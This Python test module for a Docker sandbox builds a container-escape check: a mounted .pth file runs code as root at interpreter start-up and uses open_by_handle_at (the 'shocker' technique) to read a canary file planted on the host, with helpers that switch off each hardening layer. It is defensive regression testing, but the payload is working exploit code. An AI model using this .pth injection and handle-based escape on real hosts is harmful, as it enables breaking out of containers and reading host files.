"""The host-escape attack of a hostile task directory, and the test-only means to switch
off each layer that stops it (tests/test_deny_host_escape.py).

The attack: a data folder mounted where the image's Python looks for site packages,
holding a `.pth` file, gets code run in the trusted runner (PID 1, root) at interpreter
start-up. With CAP_DAC_READ_SEARCH and a seccomp profile that allows
`open_by_handle_at`, that code opens the host filesystem's root by a guessed handle
(the "shocker" escape) and reads a file of the host.

Every switch here lives in the tests: product code has none.
"""

from __future__ import annotations

import io
import json
import tarfile
import textwrap
import uuid
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import pytest

from controller.sandbox import docker_job, hardening
from controller.sandbox.spec import DataMount, JobResult

# Debian's site.py scans <prefix>/lib/python3/dist-packages, a folder the venv does not
# have (so it is not on sys.path until something is mounted there).
SITE_DIR = "/opt/venv/lib/python3/dist-packages"
MARK = "ESCAPE-PAYLOAD"


class UncheckedMount(DataMount):
    """A data mount whose target is not checked: the mount allow-list switched off."""

    def validate(self, index: int) -> None:
        return None


@dataclass(frozen=True)
class HostCanary:
    """A file planted on the host, named relative to the root of the filesystem that
    holds Docker's volumes (/var/lib/docker)."""

    path: Path
    secret: str
    root_inode: int
    relative: str


@contextmanager
def host_canary() -> Iterator[HostCanary]:
    docker_root = Path("/var/lib/docker")
    device = docker_root.stat().st_dev
    mount_root = docker_root
    while mount_root.parent != mount_root and mount_root.parent.stat().st_dev == device:
        mount_root = mount_root.parent
    path = docker_root / f"bilevel-canary-{uuid.uuid4().hex[:12]}"
    secret = f"CANARY-{uuid.uuid4().hex}"
    path.write_text(secret)
    path.chmod(0o600)
    try:
        yield HostCanary(path, secret, mount_root.stat().st_ino,
                         str(path.relative_to(mount_root)))
    finally:
        path.unlink(missing_ok=True)


def payload(canary: HostCanary) -> str:
    """Runs wherever the .pth is processed: reports who it runs as, what it holds, and
    what `open_by_handle_at` on the host's root gave (the canary's text if it escaped)."""
    return textwrap.dedent(f"""
        import ctypes, json, os
        def _report():
            out = {{"pid": os.getpid(), "uid": os.getuid()}}
            status = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
            out["cap_eff"] = int(status["CapEff"].strip(), 16)
            libc = ctypes.CDLL(None, use_errno=True)
            class Handle(ctypes.Structure):
                _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int),
                            ("f", ctypes.c_ubyte * 8)]
            handle = Handle(8, 1)
            handle.f[:] = list(({canary.root_inode}).to_bytes(4, "little") + bytes(4))
            # Any descriptor on the host's filesystem anchors the handle: the folder
            # this payload came from is a Docker volume, kept on that filesystem.
            mount_fd = os.open(os.path.dirname(os.path.abspath(__file__)), os.O_RDONLY)
            fd = libc.syscall(304, mount_fd, ctypes.byref(handle), os.O_RDONLY)
            out["open_by_handle_at"] = fd if fd >= 0 else -ctypes.get_errno()
            if fd >= 0:
                try:
                    with open(os.open({canary.relative!r}, os.O_RDONLY, dir_fd=fd)) as f:
                        out["host_file"] = f.read()
                except OSError as exc:
                    out["host_file_error"] = str(exc)
            print({MARK!r}, json.dumps(out), flush=True)
        try:
            _report()
        except Exception as exc:
            print({MARK!r}, json.dumps({{"error": repr(exc)}}), flush=True)
    """)


def make_payload_volume(client: docker.DockerClient, image: str,
                        canary: HostCanary) -> str:
    """A Docker volume holding `escape.pth` and the module it imports."""
    name = f"bilevel-test-escape-{uuid.uuid4().hex[:10]}"
    files = {"escape.pth": b"import escape_payload\n",
             "escape_payload.py": payload(canary).encode()}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for file_name, data in files.items():
            info = tarfile.TarInfo(file_name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    client.volumes.create(name=name, labels={"io.bilevel.test": "escape"})
    filler = client.containers.create(image, command=["true"], network_disabled=True,
                                      mounts=[docker.types.Mount("/fill", name)])
    try:
        assert filler.put_archive("/fill", buffer.getvalue())
    finally:
        filler.remove(force=True)
    return name


def reports(result: JobResult) -> list[dict[str, Any]]:
    """What the payload printed, once per process that processed the .pth."""
    found = []
    for line in result.stdout.splitlines():
        if line.startswith(MARK):
            parsed: dict[str, Any] = json.loads(line[len(MARK):])
            found.append(parsed)
    return found


def runner_report(result: JobResult) -> dict[str, Any] | None:
    """The payload's report from PID 1 (the runner), if it ran there."""
    return next((r for r in reports(result) if r.get("pid") == 1), None)


class Layers:
    """Switch off sandbox layers for one test (monkeypatch undoes it)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.monkeypatch = monkeypatch
        self.overrides: dict[str, Any] = {}
        self.extra_caps: list[str] = []
        original = hardening.container_kwargs

        def patched(*args: Any, **kwargs: Any) -> dict[str, Any]:
            out = {**original(*args, **kwargs), **self.overrides}
            out["cap_add"] = [*out["cap_add"], *self.extra_caps]
            return out

        monkeypatch.setattr(docker_job, "container_kwargs", patched)

    def site_processing(self) -> None:
        """The runner started as a plain `python3`: site dirs and .pth files processed."""
        self.monkeypatch.setattr(hardening, "RUNNER_COMMAND",
                                 ["python3", "/opt/bilevel/runner.py"])

    def dac_read_search(self) -> None:
        """The runner granted CAP_DAC_READ_SEARCH, as it once was."""
        self.extra_caps.append("DAC_READ_SEARCH")

    def docker_seccomp(self) -> None:
        """Docker's default seccomp profile instead of the sandbox's own."""
        self.overrides["security_opt"] = ["no-new-privileges:true"]

    def image(self, tag: str) -> None:
        self.overrides["image"] = tag


def runner_image_without_cap_drop(client: docker.DockerClient, image: str) -> str:
    """The sandbox image with a runner that keeps its start-up capabilities for good."""
    tag = f"bilevel-test-runner-keepcaps:{image.split(':')[1]}"
    try:
        client.images.get(tag)
        return tag
    except docker.errors.ImageNotFound:
        pass
    dockerfile = (f"FROM {image}\nUSER root\n"
                  "RUN chmod u+w /opt/bilevel/runner.py && sed -i "
                  "'s/^\\( *\\)_keep_only_runner_caps()$/\\1pass  # keeps its caps/' "
                  "/opt/bilevel/runner.py && grep -q 'pass  # keeps its caps' "
                  "/opt/bilevel/runner.py"
                  " && chmod a-w /opt/bilevel/runner.py\n")
    client.images.build(fileobj=io.BytesIO(dockerfile.encode()), tag=tag, rm=True,
                        network_mode="none")
    return tag


def proc_status(result: JobResult) -> dict[str, int]:
    """The runner's capability sets as the job read them from /proc/1/status."""
    line = next(ln for ln in result.stdout.splitlines() if ln.startswith("{"))
    parsed: dict[str, int] = json.loads(line)
    return parsed


READ_RUNNER_CAPS = """
import json
status = dict(l.split(":", 1) for l in open("/proc/1/status") if ":" in l)
print(json.dumps({k: int(status[k].strip(), 16) for k in ("CapEff", "CapPrm", "CapBnd")}))
"""

CAP = {"CHOWN": 0, "DAC_READ_SEARCH": 2, "KILL": 5, "SETGID": 6, "SETUID": 7, "SETPCAP": 8}


def mask(*names: str) -> int:
    return sum(1 << CAP[n] for n in names)


def remove_volume(client: docker.DockerClient, name: str) -> None:
    """Remove a test's volume, and first any container that mounts it (a pooled one
    waiting for a job of the class that mounted it holds it in use)."""
    for row in client.api.containers(all=True, filters={"volume": name}):
        with suppress(docker.errors.NotFound, docker.errors.APIError):
            client.api.remove_container(row["Id"], force=True)
    with suppress(docker.errors.NotFound):
        client.volumes.get(name).remove(force=True)

